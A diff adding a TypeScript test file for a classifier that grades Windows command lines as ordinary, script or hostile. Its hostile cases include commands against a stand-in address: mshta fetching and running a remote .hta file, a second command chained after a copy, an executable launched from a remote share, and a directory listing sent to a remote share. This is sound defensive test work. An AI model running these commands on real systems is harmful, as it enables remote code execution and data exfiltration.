@@ -1,0 +1,29 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { assess } from './assess.ts'
+import type { Grade } from './grades.ts'
+
+const CASES: readonly (readonly [command: string, grade: Grade])[] = [
+  ['robocopy C:\\Data \\\\nas\\backup /MIR', 'ordinary'],
+  ['"C:\\Tools\\gradlew.bat" build', 'ordinary'],
+  ['cmd /c "xcopy C:\\a D:\\b & dir D:\\b"', 'ordinary'],
+  ['cmd /c start "" /b notepad.exe a.txt', 'ordinary'],
+  ['cmd /c if exist C:\\a.txt copy C:\\a.txt D:\\', 'ordinary'],
+  ['mailto:a@example.com?subject=x', 'ordinary'],
+  ['"C:\\Program Files\\ERP\\client.exe" /run', 'script'],
+  ['cmd /c cscript //nologo backup.vbs', 'script'],
+  // A quoted sign joins no commands.
+  ['cmd /c "C:\\A & B\\tool.exe" /x', 'script'],
+  ['cmd /c echo hello', 'hostile'],
+  ['calc.exe', 'hostile'],
+  ['mshta http://192.0.2.1/a.hta', 'hostile'],
+  ['cmd /c copy a b & mshta http://192.0.2.1/a.hta', 'hostile'],
+  ['cmd /c if exist C:\\a.txt start "" \\\\192.0.2.1\\s\\a.exe', 'hostile'],
+  ['cmd /c dir C:\\ > \\\\192.0.2.1\\s\\list.txt', 'hostile'],
+  ['%TEMP%\\a.exe', 'hostile'],
+]
+
+for (const [command, grade] of CASES)
+  test(`${grade} in a script: ${command}`, () => {
+    assert.equal(assess(command, { by: 'script', source: command.toLowerCase() }), grade)
+  })
